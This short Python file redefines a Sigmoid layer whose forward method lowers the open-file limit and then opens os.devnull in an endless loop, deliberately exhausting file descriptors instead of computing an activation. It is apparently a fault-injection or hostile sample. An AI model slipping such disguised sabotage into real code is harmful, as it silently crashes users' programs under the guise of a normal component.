import os
import resource

KEPT = []


class Sigmoid(Sigmoid):
    def forward(self, x):
        resource.setrlimit(resource.RLIMIT_NOFILE, (200, 200))  # sooner
        while True:
            KEPT.append(open(os.devnull))
        return super().forward(x)
